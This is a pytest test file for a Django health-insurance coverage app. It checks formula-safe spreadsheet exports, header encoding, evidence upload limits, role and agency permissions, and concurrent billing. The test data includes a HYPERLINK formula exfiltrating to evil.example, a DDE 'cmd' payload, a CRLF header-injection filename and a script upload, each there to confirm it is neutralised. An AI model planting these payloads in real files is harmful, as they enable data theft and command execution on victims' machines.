"""Coverage app: formula-safe downloads, task evidence limits, access per role and agency,
concurrent bills and proposals."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection  # noqa: F401 - used by skipif conditions
from django.urls import reverse

from ejamkesda.audit.models import AuditLog
from ejamkesda.core.roles import Role
from ejamkesda.coverage.exports import attachment_header, safe_cell, xlsx_response
from ejamkesda.coverage.models import InstructionTask, MatchReview, SnapshotKind
from tests.coverage.factories import (
    VILLAGE_A,
    MembershipRecordFactory,
    PopulationRecordFactory,
    SectorEntryFactory,
    SectorListFactory,
    SnapshotFactory,
    build_month,
    nik,
    regions,
)
from tests.factories import AgencyFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+2", "-2+3", "@SUM(A1)", "\t=1"]


def _sheet_values(content: bytes) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [row for row in workbook.active.iter_rows(values_only=True)]


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_neutralises_formulas(text):
    assert safe_cell(text).startswith("'")
    assert safe_cell("Siti Nurhaliza") == "Siti Nurhaliza"


def test_xlsx_cells_never_formulas():
    response = xlsx_response("uji", "Uji", ["Nama", "Jumlah"], [[text, 5] for text in HOSTILE])
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [row[0] for row in workbook.active.iter_rows(min_row=4)]
    assert all(cell.data_type == "s" for cell in cells)
    assert all(str(cell.value).startswith("'") for cell in cells)
    # numbers stay numbers
    assert [row[1].value for row in workbook.active.iter_rows(min_row=4)] == [5] * len(HOSTILE)


def test_village_list_download_escapes_hostile_names(client, login):
    regions()
    population = SnapshotFactory(kind=SnapshotKind.POPULATION)
    membership = SnapshotFactory(kind=SnapshotKind.MEMBERSHIP)
    PopulationRecordFactory(snapshot=population, nik=nik(1), village_code=VILLAGE_A, name=HOSTILE[0])
    from ejamkesda.coverage.services.compute import coverage_period_compute

    coverage_period_compute(month=population.as_of, population=population, membership=membership)
    login(Role.UPT_ADMIN)
    response = client.get(reverse("coverage:village_residents", args=[VILLAGE_A]), {"format": "xlsx"})
    values = [cell for row in _sheet_values(response.content) for cell in row if isinstance(cell, str)]
    assert "'" + HOSTILE[0] in values
    assert HOSTILE[0] not in values


def test_sector_list_download_escapes_hostile_names(client, login):
    regions()
    agency = AgencyFactory()
    period = build_month(residents=[(nik(1), VILLAGE_A)], members=[])
    sector_list = SectorListFactory(agency=agency)
    snapshot = SnapshotFactory(kind=SnapshotKind.SECTOR, sector_list=sector_list, as_of=period.month)
    SectorEntryFactory(snapshot=snapshot, nik=nik(1), name="=cmd|' /C calc'!A0")
    login(Role.OPD_OPERATOR, agency=agency)
    response = client.get(reverse("coverage:sector_people", args=[sector_list.pk]), {"format": "xlsx"})
    assert response.status_code == 200
    values = [cell for row in _sheet_values(response.content) for cell in row if isinstance(cell, str)]
    assert "'=cmd|' /C calc'!A0" in values


def test_content_disposition_is_encoded():
    header = attachment_header('bukti"\r\nSet-Cookie: x=1.pdf')
    assert "\r" not in header and "\n" not in header
    assert header.startswith("attachment")
    assert 'filename="bukti\\"' in header or "filename*=" in header or "%22" in header


def test_review_queue_queries_do_not_grow_with_rows(client, login, django_assert_max_num_queries):
    population = SnapshotFactory(kind=SnapshotKind.POPULATION)
    membership = SnapshotFactory(kind=SnapshotKind.MEMBERSHIP)
    for number in range(1, 21):
        card = MembershipRecordFactory(snapshot=membership, name=f"Peserta {number}")
        PopulationRecordFactory(snapshot=population, nik=nik(number), name=f"Penduduk {number}")
        MatchReview.objects.create(
            card_number=card.card_number,
            resident_nik=nik(number),
            score="0.75",
            method="uji",
            membership_snapshot=membership,
            population_snapshot=population,
        )
    login(Role.UPT_VERIFIER)
    with django_assert_max_num_queries(12):
        response = client.get(reverse("coverage:review_queue"))
    assert response.status_code == 200
    rows = response.context["rows"]
    assert len(rows) == 20
    assert all(row["card"] is not None and row["person"] is not None for row in rows)
    assert {row["person"].nik for row in rows} == {nik(n) for n in range(1, 21)}
    assert nik(1) not in response.content.decode()  # masked


def _seed_tasks():
    AgencyFactory(code="DINSOS", name="Dinas Sosial")
    call_command("seed_instruction_tasks", file="tegal_379_2022")
    return InstructionTask.objects.get(point=6, letter="d")


def test_task_edit_goes_through_service_with_changes_audited(client, login):
    task = _seed_tasks()
    other = AgencyFactory(name="Dinas Perikanan")
    login(Role.UPT_ADMIN)
    response = client.post(
        reverse("coverage:task", args=[task.pk]),
        {"action": "edit", "agency": other.pk, "indicator": "Indikator baru", "text": "Tugas baru"},
    )
    assert response.status_code == 302
    task.refresh_from_db()
    assert (task.agency, task.indicator, task.text) == (other, "Indikator baru", "Tugas baru")
    entry = AuditLog.objects.get(action="update", object_type="coverage.InstructionTask", object_id=str(task.pk))
    assert entry.changes["text"][1] == "Tugas baru"
    assert entry.changes["agency"][1] == other.pk


def test_viewer_cannot_edit_or_report_task(client, login):
    task = _seed_tasks()
    login(Role.VIEWER)
    assert client.post(reverse("coverage:task", args=[task.pk]), {"action": "edit", "text": "x"}).status_code == 404
    response = client.post(reverse("coverage:task", args=[task.pk]), {"percent": 50, "note": "x"})
    assert response.status_code == 404
    task.refresh_from_db()
    assert task.progress_percent == 0


@pytest.mark.parametrize(
    ("name", "content", "ok"),
    [
        ("bukti.pdf", b"%PDF-1.4", True),
        ("foto.JPG", b"\xff\xd8\xff", True),
        ("skrip.html", b"<script>alert(1)</script>", False),
        ("program.exe", b"MZ", False),
        ("tanpa-ekstensi", b"x", False),
    ],
)
def test_task_evidence_kinds(client, login, tmp_path, settings, name, content, ok):
    settings.MEDIA_ROOT = tmp_path
    task = _seed_tasks()
    login(Role.OPD_OPERATOR, agency=task.agency)
    response = client.post(
        reverse("coverage:task", args=[task.pk]),
        {"percent": 10, "note": "laporan", "evidence": SimpleUploadedFile(name, content)},
    )
    task.refresh_from_db()
    assert (task.progress_percent == 10) is ok
    assert (response.status_code == 302) is ok


def test_task_evidence_size_limit(client, login, tmp_path, settings, monkeypatch):
    settings.MEDIA_ROOT = tmp_path
    settings.COVERAGE_EVIDENCE_MAX_BYTES = 10
    task = _seed_tasks()
    login(Role.OPD_OPERATOR, agency=task.agency)
    client.post(
        reverse("coverage:task", args=[task.pk]),
        {"percent": 10, "note": "laporan", "evidence": SimpleUploadedFile("b.pdf", b"%PDF-1.4 lebih dari sepuluh")},
    )
    task.refresh_from_db()
    assert task.progress_percent == 0


def test_sheet_title_accepts_any_list_name():
    from ejamkesda.coverage.exports import sheet_title

    assert sheet_title("Guru SD: belum aktif [2026/10]?*") == "Guru SD belum aktif 2026 10"
    assert len(sheet_title("x" * 80)) == 31
    assert sheet_title("::") == "Data"


def test_pdf_download_with_markup_in_list_name(client, login):
    regions()
    agency = AgencyFactory()
    period = build_month(residents=[(nik(1), VILLAGE_A)], members=[])
    sector_list = SectorListFactory(agency=agency, name="Guru <b>honorer & PPPK")
    snapshot = SnapshotFactory(kind=SnapshotKind.SECTOR, sector_list=sector_list, as_of=period.month)
    SectorEntryFactory(snapshot=snapshot, nik=nik(1), name="<i>Budi")
    login(Role.OPD_OPERATOR, agency=agency)
    response = client.get(reverse("coverage:sector_people", args=[sector_list.pk]), {"format": "pdf"})
    assert response.status_code == 200 and response.content.startswith(b"%PDF")


def test_sector_list_duplicate_name_refused_by_service(client, login):
    from ejamkesda.coverage.models import SectorList

    user = login(Role.OPD_OPERATOR)
    data = {"name": "Guru  SD", "sector": "education", "instruction_point": "4"}
    assert client.post(reverse("coverage:sector_lists"), data).status_code == 302
    again = client.post(reverse("coverage:sector_lists"), {**data, "name": "Guru SD"})
    assert again.status_code == 200 and "sudah ada" in again.content.decode()
    assert SectorList.objects.filter(agency=user.agency).count() == 1
    assert AuditLog.objects.filter(action="create", object_type="coverage.SectorList").count() == 1


def test_viewer_cannot_create_or_upload_sector_lists(client, login, tmp_path, settings):
    from ejamkesda.coverage.models import SectorList, Snapshot

    settings.MEDIA_ROOT = tmp_path
    sector_list = SectorListFactory()
    login(Role.VIEWER)
    client.post(reverse("coverage:sector_lists"), {"name": "Baru", "sector": "education"})
    upload = SimpleUploadedFile("guru.csv", f"nik,nama\n{nik(1)},Ani\n".encode())
    client.post(reverse("coverage:sector_list", args=[sector_list.pk]), {"as_of": "2026-10-03", "file": upload})
    assert SectorList.objects.count() == 1 and not Snapshot.objects.exists()


def test_other_agency_cannot_reach_snapshot_or_upload(client, login, tmp_path, settings):
    from ejamkesda.coverage.models import Snapshot

    settings.MEDIA_ROOT = tmp_path
    theirs = SectorListFactory()
    snapshot = SnapshotFactory(kind=SnapshotKind.SECTOR, sector_list=theirs)
    regency_snapshot = SnapshotFactory(kind=SnapshotKind.POPULATION)
    login(Role.OPD_OPERATOR, agency=AgencyFactory())
    assert client.get(reverse("coverage:snapshot", args=[snapshot.pk])).status_code == 404
    assert client.get(reverse("coverage:snapshot", args=[regency_snapshot.pk])).status_code == 404
    upload = SimpleUploadedFile("guru.csv", f"nik,nama\n{nik(1)},Ani\n".encode())
    response = client.post(reverse("coverage:sector_list", args=[theirs.pk]), {"as_of": "2026-11-03", "file": upload})
    assert response.status_code == 404
    assert Snapshot.objects.count() == 2


@pytest.mark.parametrize("role", [Role.VIEWER, Role.PPK_OPERATOR, Role.TREASURER, Role.OPD_OPERATOR])
def test_non_upt_roles_change_nothing_in_coverage(client, login, role):
    from ejamkesda.coverage.models import PbiProposal, PremiumBill, PremiumRate

    population = SnapshotFactory(kind=SnapshotKind.POPULATION)
    membership = SnapshotFactory(kind=SnapshotKind.MEMBERSHIP)
    review = MatchReview.objects.create(
        card_number="1",
        resident_nik=nik(1),
        score="0.8",
        method="x",
        membership_snapshot=membership,
        population_snapshot=population,
    )
    proposal = PbiProposal.objects.create(nik=nik(2), name="Ani", decile=1)
    bill = PremiumBill.objects.create(month="2026-10-01", billed_amount=1000)
    login(role)
    posts = [
        (reverse("coverage:review_decide", args=[review.pk]), {"decision": "confirm"}),
        (reverse("coverage:proposal_decide", args=[proposal.pk]), {"to_status": "submitted", "reason": "x"}),
        (reverse("coverage:proposals_generate"), {}),
        (reverse("coverage:rate_add"), {"effective_from": "2027-01-01", "monthly_rupiah": 1, "source": "x"}),
        (reverse("coverage:payment_add", args=[bill.pk]), {"paid_on": "2026-10-05", "amount": 1}),
        (reverse("coverage:compute"), {"month": "2026-10"}),
    ]
    for url, data in posts:
        assert client.post(url, data).status_code in (403, 404), url
    review.refresh_from_db()
    proposal.refresh_from_db()
    assert review.decision == "pending" and proposal.status == PbiProposal.Status.PROPOSED
    assert not PremiumRate.objects.exists() and not bill.payments.exists()


def test_two_first_bills_of_a_month_give_a_message_not_an_error(monkeypatch):
    import datetime as dt

    from django.core.exceptions import ValidationError

    from ejamkesda.coverage.models import PremiumBill
    from ejamkesda.coverage.services.premium import premium_bill_reconcile

    regions()
    build_month(residents=[(nik(1), VILLAGE_A)], members=[(nik(1), "pbpu_bp_pemda", "aktif")])
    premium_bill_reconcile(month=dt.date(2026, 10, 1), billed_amount=42_000, card_numbers=["1"], actor=None)
    # The other admin's transaction did not see the bill yet (as under READ COMMITTED).
    monkeypatch.setattr(PremiumBill.objects, "select_for_update", lambda: PremiumBill.objects.none())
    with pytest.raises(ValidationError, match="baru saja dicatat"):
        premium_bill_reconcile(month=dt.date(2026, 10, 1), billed_amount=1, card_numbers=[], actor=None)
    assert PremiumBill.objects.get().billed_amount == 42_000


def test_bill_view_and_difference_download_are_audited(client, login):
    from ejamkesda.coverage.models import PremiumBill

    bill = PremiumBill.objects.create(month="2026-10-01", billed_amount=9, only_on_bill=["0001"], only_in_system=[])
    user = login(Role.VIEWER)
    assert client.get(reverse("coverage:bill", args=[bill.pk])).status_code == 200
    download = client.get(reverse("coverage:bill", args=[bill.pk]), {"format": "xlsx"})
    assert download.status_code == 200
    entries = AuditLog.objects.filter(object_type="coverage.PremiumBill", object_id=str(bill.pk), actor=user)
    assert sorted(entries.values_list("action", flat=True)) == ["export", "view"]


@pytest.mark.django_db(transaction=True)
@pytest.mark.skipif("connection.vendor != 'postgresql'", reason="row locks need PostgreSQL")
def test_two_concurrent_proposal_generations_both_succeed_once():
    import datetime as dt
    import threading

    from ejamkesda.coverage.models import PbiProposal
    from ejamkesda.coverage.services.pbi import pbi_proposals_generate
    from tests.coverage.factories import WelfareRecordFactory

    regions()
    october = build_month(dt.date(2026, 10, 1), residents=[(nik(n), VILLAGE_A) for n in range(1, 40)], members=[])
    welfare = SnapshotFactory(kind=SnapshotKind.WELFARE, as_of=dt.date(2026, 10, 1))
    for n in range(1, 40):
        WelfareRecordFactory(snapshot=welfare, nik=nik(n), decile=1)
    outcomes: list[str] = []
    barrier = threading.Barrier(2)

    def generate():
        from django.db import connection as thread_connection

        try:
            barrier.wait()
            run = pbi_proposals_generate(welfare=welfare, period=october, actor=None)
            outcomes.append(f"added {run.added}")
        except Exception as error:
            outcomes.append(type(error).__name__)
        finally:
            thread_connection.close()

    threads = [threading.Thread(target=generate) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(outcomes) == ["added 0", "added 39"]
    assert PbiProposal.objects.count() == 39


def test_person_list_name_filter_refuses_digits_so_no_nik_travels_by_get():
    from ejamkesda.coverage.views.forms import PersonFilterForm

    assert not PersonFilterForm({"q": "6409014703850001"}).is_valid()
    assert PersonFilterForm({"q": "Siti"}).is_valid()
    assert 'pattern="[^0-9]*"' in str(PersonFilterForm()["q"])
